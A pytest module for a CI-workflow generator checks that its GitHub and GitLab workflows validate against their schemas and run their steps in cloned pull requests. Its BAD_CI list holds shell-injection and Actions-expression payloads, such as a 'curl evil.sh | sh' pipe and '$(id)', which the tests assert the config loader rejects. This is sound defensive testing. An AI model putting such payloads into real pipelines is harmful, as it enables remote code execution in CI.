"""``shipyard ci github|gitlab``: the workflows validate against SchemaStore's schemas (check-jsonschema, offline),
and every ``run:`` step of the GitHub workflow runs, in order, in a fresh clone of the demo's iris pipeline.

The clone is a pull request: its params differ from main's, so ``shipyard run`` restores the unchanged stage
from the folder remote's stage cache and runs the others, and the jobs after it ship the version it made. A
second pull request changes no stage: everything comes from the cache, and the later jobs are skipped.
Each ``uses:`` step is mapped to what it does here:
checkout is the clone, setup-python is this interpreter (its version and the cache's lock files are checked),
the artifact steps are the clone's own ``.shipyard/``, and the comment action checks its Markdown file. The
registry secret (``SHIPYARD_DB_URL``) is the team registry the main branch filled, as the CI's secret store
would hold it. One step runs with a flag the workflow does not have: ``shipyard build --context-only`` (no
image engine in this test; tests/test_images.py builds images for real).
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from shipyard import __version__
from shipyard.core.deploy import workflows
from shipyard.core.registry.diff import Side, diff, markdown
from tests.conftest import cli_env, shipyard, without_torch

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("ci-workflows")]  # one origin project for the module

EXAMPLE = Path(__file__).parent.parent / "src" / "shipyard" / "examples" / "iris-pipeline"
MODEL = "iris-pipeline"
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")


def git(cwd: Path, *args: str) -> str:
    done = subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=60, check=True)
    return done.stdout.strip()


def schema_check(path: Path, schema: str) -> subprocess.CompletedProcess[str]:
    exe = Path(sys.executable).parent / "check-jsonschema"
    return subprocess.run([str(exe), "--builtin-schema", schema, str(path)], capture_output=True, text=True,
                          timeout=60, check=False)


@pytest.fixture(scope="module")
def origin(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """main: the iris pipeline run once, its data and stage results pushed to a folder remote, version 1 in
    production, the workflows written and committed."""
    import sklearn

    base = tmp_path_factory.mktemp("ci")
    root = base / "origin"
    shutil.copytree(EXAMPLE, root)
    config = yaml.safe_load((root / "shipyard.yaml").read_text())
    config.update({"remotes": {"team": {"url": str(base / "remote")}}, "default_remote": "team",
                   "ci": {"matrix": {"scikit-learn": [sklearn.__version__]}}})
    (root / "shipyard.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    (base / "remote").mkdir()
    # setup-python's equivalent: this venv's python, pip and shipyard come first on PATH (as under `make test`,
    # which runs .venv/bin/python without activating the venv)
    path = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    env = without_torch(cli_env(SHIPYARD_ACTOR="dev@laptop", PYTHONPATH=os.pathsep.join(sys.path),
                                SHIPYARD_CACHE_DIR=str(base / "envs"), PATH=path))  # the workflow installs [sklearn]
    git(root, "init", "-q", "-b", "main")
    for args in (("data", "add", "data/raw"), ("run",), ("data", "push"),
                 ("alias", "set", MODEL, "production", "1"), ("ci", "github"), ("ci", "gitlab")):
        shipyard(*args, env=env, cwd=root)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "iris pipeline with CI")
    return root, env


def test_generated_workflows_validate_against_the_ci_schemas(origin: tuple[Path, dict[str, str]]) -> None:
    root, env = origin
    gh, gl = root / workflows.GITHUB_PATH, root / workflows.GITLAB_PATH
    for path, schema in ((gh, "vendor.github-workflows"), (gl, "vendor.gitlab-ci")):
        done = schema_check(path, schema)
        assert done.returncode == 0, done.stdout + done.stderr
    doc = yaml.safe_load(gh.read_text())
    assert doc["permissions"] == {"contents": "read"}  # least privilege; widened per job
    assert doc["jobs"]["report"]["permissions"]["pull-requests"] == "write"
    assert doc["jobs"]["verify"]["strategy"]["fail-fast"] is False
    assert doc["jobs"]["promote-production"]["environment"] == "production"
    assert "concurrency" in doc and "concurrency" in doc["jobs"]["promote-staging"]
    # no value of a secret in the file: only references to the secret store
    text = gh.read_text()
    assert "${{ secrets.SHIPYARD_DB_URL }}" in text and "sqlite" not in text and "postgresql://" not in text
    lab = yaml.safe_load(gl.read_text())
    assert lab["promote-production"]["rules"][0]["when"] == "manual"
    assert lab["promote-production"]["environment"] == {"name": "production"}
    # a broken workflow is rejected: the schema check is not a rubber stamp
    del doc["jobs"]["pipeline"]["runs-on"]
    broken = root.parent / "broken.yml"
    broken.write_text(yaml.safe_dump(doc))
    assert schema_check(broken, "vendor.github-workflows").returncode != 0
    # a file shipyard did not write is kept unless --force
    other = root.parent / "mine.yml"
    other.write_text("name: mine\n")
    refused = shipyard("ci", "github", "--output", str(other), env=env, cwd=root, check=False)
    assert refused.returncode == 4 and "--force" in refused.stderr and other.read_text() == "name: mine\n"
    shipyard("ci", "github", "--output", str(other), "--force", env=env, cwd=root)
    assert other.read_text().startswith("# Generated by `shipyard ci github`")
    # one it wrote and someone edited since is kept too: the first line carries the digest of the body
    other.write_text(other.read_text().replace("timeout-minutes: 60", "timeout-minutes: 90", 1))
    edited = other.read_text()
    refused = shipyard("ci", "github", "--output", str(other), env=env, cwd=root, check=False)
    assert refused.returncode == 4 and "edited since" in refused.stderr and "--force" in refused.stderr
    assert other.read_text() == edited and refused.stderr.count("\n") == 1


class Runner:
    """Runs a GitHub workflow's jobs for one event, here: ``run:`` steps in bash, ``uses:`` steps mapped."""

    def __init__(self, root: Path, env: dict[str, str], secrets: dict[str, str], event: str) -> None:
        self.root, self.env, self.secrets, self.event = root, env, secrets, event
        self.sha = git(root, "rev-parse", "HEAD")
        self.ran: list[str] = []
        self.jobs: dict[str, dict[str, str] | None] = {}  # job -> its outputs (None: skipped)

    def value(self, e: str, matrix: dict[str, str], steps: dict[str, dict[str, str]]) -> str:
        if e.startswith("matrix."):
            return matrix[e.removeprefix("matrix.")]
        if e.startswith("secrets."):
            return self.secrets.get(e.removeprefix("secrets."), "")
        if e.startswith("steps.") and ".outputs." in e:
            step, _, key = e.removeprefix("steps.").partition(".outputs.")
            return steps[step][key]
        if e.startswith("needs.") and ".outputs." in e:
            job, _, key = e.removeprefix("needs.").partition(".outputs.")
            return (self.jobs[job] or {})[key]
        known = {"github.sha": self.sha, "github.actor": "octocat", "github.ref": "refs/pull/1/merge",
                 "github.repository": "octo/iris", "github.event_name == 'pull_request'": "true"}
        if e not in known:
            raise AssertionError(f"the workflow uses an expression this test does not know: {e}")
        return known[e]

    def expr(self, text: str, matrix: dict[str, str], steps: dict[str, dict[str, str]]) -> str:
        return EXPRESSION.sub(lambda m: self.value(m.group(1), matrix, steps), text)

    def holds(self, condition: str | None) -> bool:
        """A job's or step's ``if:``: the terms the generator writes, joined by &&."""
        for term in (condition or "").split(" && ") if condition else []:
            if term == workflows.ON_PR:
                ok = self.event == "pull_request"
            elif term == workflows.ON_MAIN or term.startswith("github.ref == "):
                ok = self.event == "push"
            elif term == workflows.MADE_CONDITION:
                ok = self.value("needs.pipeline.outputs.version", {}, {}) != ""
            else:
                raise AssertionError(f"the workflow has a condition this test does not know: {term}")
            if not ok:
                return False
        return True

    def job(self, doc: dict[str, Any], name: str, adjust: dict[str, str]) -> None:
        job = doc["jobs"][name]
        needs = [job["needs"]] if isinstance(job.get("needs"), str) else job.get("needs", [])
        if any(self.jobs.get(n) is None for n in needs) or not self.holds(job.get("if")):
            self.jobs[name] = None  # skipped, as are the jobs that need it
            return
        steps: dict[str, dict[str, str]] = {}
        for matrix in job.get("strategy", {}).get("matrix", {}).get("include", [{}]):
            steps = {}
            for step in job["steps"]:
                if not self.holds(step.get("if")):
                    continue
                if "uses" in step:
                    self.uses(step)
                    continue
                env = {**self.env, **{k: self.expr(str(v), matrix, steps)
                                      for k, v in {**doc.get("env", {}), **step.get("env", {})}.items()}}
                out_file = self.root.parent / "github_output"
                out_file.write_text("")
                env["GITHUB_OUTPUT"] = str(out_file)
                script = self.expr(step["run"], matrix, steps)
                for old, new in adjust.items():
                    script = script.replace(old, new)
                done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                                      cwd=self.root, env=env, capture_output=True, text=True, timeout=300,
                                      check=False)
                assert done.returncode == 0, f"{name}: {step['name']}: {script}\n{done.stdout}\n{done.stderr}"
                self.ran.append(script)
                if "id" in step:
                    steps[step["id"]] = dict(line.split("=", 1) for line in out_file.read_text().splitlines())
        self.jobs[name] = {k: self.expr(v, {}, steps) for k, v in job.get("outputs", {}).items()}

    def uses(self, step: dict[str, Any]) -> None:
        action, given = step["uses"], step.get("with", {})
        if action == workflows.SETUP_PYTHON:
            assert given["python-version"] == f"{sys.version_info.major}.{sys.version_info.minor}"
            # setup-python fails when no file matches cache-dependency-path
            assert all((self.root / f).is_file() for f in given["cache-dependency-path"].split("\n"))
        elif action == workflows.UPLOAD:
            assert (self.root / given["path"]).is_dir()
        elif action == workflows.COMMENT:
            assert (self.root / given["path"]).read_text().strip()
        else:
            assert action in (workflows.CHECKOUT, workflows.DOWNLOAD), f"unmapped action {action}"


def pull_request(origin: Path, tmp_path: Path, branch: str, params: dict[str, Any] | None) -> Path:
    """A branch of ``origin`` (with ``params`` changed, or only its README), cloned afresh."""
    git(origin, "checkout", "-q", "-b", branch)
    if params is not None:
        (origin / "params.yaml").write_text(yaml.safe_dump(params))
    else:
        (origin / "README.md").write_text("words only\n")
        git(origin, "add", "README.md")
    git(origin, "commit", "-q", "-am", f"{branch}")
    git(origin, "checkout", "-q", "main")
    clone = tmp_path / branch
    git(tmp_path, "clone", "-q", "--branch", branch, str(origin), str(clone))
    assert not (clone / ".shipyard").exists() and not (clone / "data" / "raw").exists()
    return clone


def ci_runner(clone: Path, origin: Path, env: dict[str, str]) -> Runner:
    ci_env = {**env, "SHIPYARD_ACTOR": "", "PIP_NO_INDEX": "1", "PIP_DRY_RUN": "1",  # pip may change nothing here
              "PIP_DISABLE_PIP_VERSION_CHECK": "1"}
    team_db = f"sqlite:///{origin / '.shipyard' / 'shipyard.db'}"
    return Runner(clone, ci_env, {"SHIPYARD_DB_URL": team_db, "GITHUB_TOKEN": "unused"}, "pull_request")


@pytest.mark.slow
def test_every_run_step_of_the_github_workflow_passes_in_a_fresh_clone_of_a_pull_request(
        origin: tuple[Path, dict[str, str]], tmp_path: Path) -> None:
    root, env = origin
    params = yaml.safe_load((root / "params.yaml").read_text())
    params["train"]["C"] = 0.25
    clone = pull_request(root, tmp_path, "smaller-c", params)
    doc = yaml.safe_load((clone / workflows.GITHUB_PATH).read_text())
    runner = ci_runner(clone, root, env)
    for name in doc["jobs"]:
        runner.job(doc, name, {"shipyard build ": "shipyard build --context-only "})
    assert any(s.startswith("python -m pip install") and f"=={__version__}" in s for s in runner.ran)
    # the pull request trained version 2 (into the team registry): verified, built and compared as that
    assert runner.jobs["pipeline"] == {"version": "2"}
    assert [s for s in runner.ran if s.startswith("shipyard verify")] == [
        f"shipyard verify {MODEL}@2 ", f"shipyard verify {MODEL}@2 --with scikit-learn==" + _sklearn()]
    assert f"shipyard build --context-only {MODEL}@2" in runner.ran
    assert runner.jobs["promote-staging"] is None and runner.jobs["promote-production"] is None  # main only
    comment = (clone / workflows.DIFF_FILE).read_text()
    assert f"{MODEL}@2" in comment and f"{MODEL}@1 (production)" in comment and "| train.C | 1.0 | 0.25 |" in comment


def _sklearn() -> str:
    import sklearn

    return str(sklearn.__version__)


def test_a_pull_request_that_changes_no_stage_ships_nothing(origin: tuple[Path, dict[str, str]],
                                                             tmp_path: Path) -> None:
    root, env = origin
    clone = pull_request(root, tmp_path, "docs-only", None)
    doc = yaml.safe_load((clone / workflows.GITHUB_PATH).read_text())
    runner = ci_runner(clone, root, env)
    for name in doc["jobs"]:
        runner.job(doc, name, {})
    # every stage came from the remote's stage cache: no version made here, so verify, image and comment skip
    assert runner.jobs["pipeline"] == {"version": ""}
    assert all(runner.jobs[j] is None for j in doc["jobs"] if j != "pipeline")
    assert (clone / "models" / "model.skops").is_file()  # restored from the cache, not trained


def test_metrics_diff_markdown_escapes_and_marks_what_is_new() -> None:
    d = diff(Side("m@1", {"acc": 0.9, "gone": 1.0}, {"C": "1"}),
             Side("m@2", {"acc": 0.95, "new|<b>": 2.0}, {"C": "2"}))
    text = markdown(d)
    assert "| acc | 0.9 | 0.95 | +0.05 (+5.6%) |" in text
    assert "new\\|\\<b\\>" in text and "| gone | 1 | - | gone |" in text and "| C | 1 | 2 |" in text
    alone = markdown(diff(Side("m@production", None), Side("m@1", {"acc": 0.9})))
    assert "does not exist yet" in alone and "| acc | 0.9 |" in alone


def test_edited_generated_files_are_told_from_unedited_ones() -> None:
    plan = workflows.CIPlan(model="m", version="0.1.0")
    body = "name: shipyard\n"
    text = workflows.header("github", body) + body
    assert workflows.edited(text) is False
    assert workflows.edited(text + "# mine\n") is True
    assert workflows.edited(text.replace("shipyard\n", "mine\n")) is True
    assert workflows.edited(f"# {workflows.GENERATED_MARK} github`: older, no digest\n{body}") is False
    assert workflows.edited("name: mine\n") is None
    assert workflows.github(plan)["jobs"]["pipeline"]["steps"][2]["run"] == \
        'python -m pip install "shipyard[sklearn]==0.1.0"'


def test_ci_install_says_where_ci_gets_shipyard() -> None:
    from shipyard.core.deploy.ci_config import ci_config

    def line(install: str) -> str:
        spec = ci_config({"install": install})
        return workflows.CIPlan(model="m", version="0.1.0", extras=("postgres", "sklearn"),
                                install_from=spec.install).install()

    assert line("git+https://github.com/acme/shipyard@v0.1.0") == \
        'python -m pip install "shipyard[postgres,sklearn] @ git+https://github.com/acme/shipyard@v0.1.0"'
    assert line("./vendor/shipyard") == 'python -m pip install "./vendor/shipyard[postgres,sklearn]"'
    assert line("shipyard==0.2.0") == 'python -m pip install "shipyard[postgres,sklearn]==0.2.0"'
    assert line("shipyard[sklearn]~=0.1") == 'python -m pip install "shipyard[sklearn]~=0.1"'
    plan = workflows.CIPlan(model="m", version="0.1.0", install_from="./vendor/shipyard")
    assert workflows.gitlab(plan)["default"]["before_script"] == ['python -m pip install "./vendor/shipyard[sklearn]"']


BAD_CI = (  # (ci: section, the key and the words of the one-line error); the attack review's payloads first
    ("python: '3.11\"; curl evil.sh | sh; echo \"'", r"ci\.python: .* is not a Python version"),
    ("registry: 'ghcr.io/x/y $(curl evil)'", r"ci\.registry: registry .* is not a repository path component"),
    ("matrix: {'scikit-learn; touch /tmp/PW': ['1.7.2']}", r"ci\.matrix: 'scikit-learn; touch /tmp/PW' is not a "
                                                           r"package name"),
    ("matrix: {scikit-learn: ['1.7.2 $(id)']}", r"ci\.matrix: scikit-learn: '1\.7\.2 \$\(id\)' is not a version"),
    ("matrix: {scikit-learn: ['${{ github.event.pull_request.title }}']}",
     r"ci\.matrix: scikit-learn\[0\] holds '\$\{\{': a GitHub Actions expression"),
    ("model: '${{ github.head_ref }}'", r"ci\.model: the value holds '\$\{\{'"),
    ("model: 'a b'", r"ci\.model: invalid model name 'a b'"),
    ("install: 'shipyard; id'", r"ci\.install: 'shipyard; id' is not a requirement, URL or path"),
    ("install: '$(id)'", r"ci\.install: .* no spaces, quotes or shell syntax"),
    ("install: '--index-url=https://evil.example/simple'", r"ci\.install: .* is an option"),
    ("install: 'shipyard==='", r"ci\.install: 'shipyard===' is not a requirement"),
    ("registry: acme/iris", r"ci\.registry: registry 'acme/iris' names no registry host"),
)


def test_ci_values_are_checked_when_shipyard_yaml_loads(tmp_path: Path) -> None:
    from shipyard.core.project.loader import load_config
    from shipyard.errors import ConfigError, InvalidInputError
    from shipyard.interfaces.cli.ci import plan_for

    for section, says in BAD_CI:
        (tmp_path / "shipyard.yaml").write_text(f"ci:\n  {section}\n")
        with pytest.raises(ConfigError, match=r"^shipyard\.yaml:2: " + says) as caught:
            load_config(tmp_path)
        assert "\n" not in str(caught.value), section
    (tmp_path / "shipyard.yaml").write_text("ci:\n  python: '3.12'\n  registry: registry.example.com:5000/team\n"
                                            "  matrix: {torch: ['2.12.0', 2.13.0rc1], Scikit_Learn.x: ['1.7']}\n")
    assert load_config(tmp_path).ci["registry"] == "registry.example.com:5000/team"
    with pytest.raises(InvalidInputError, match=r"--registry .* is not a repository path component"):
        plan_for(tmp_path, None, "ghcr.io/x/y $(curl evil)")  # the flags are held to the same rules


def test_ci_install_refuses_credentials() -> None:
    """ci.install goes into the committed workflow: a token in its URL is refused (secrets are references)."""
    from shipyard.core.deploy.ci_config import check_install

    with pytest.raises(ValueError, match="holds credentials"):
        check_install("git+https://tok:SECRET@github.com/acme/shipyard@v0.1.0")
    assert check_install("git+ssh://git@github.com/acme/shipyard@v0.1.0").startswith("git+ssh://")
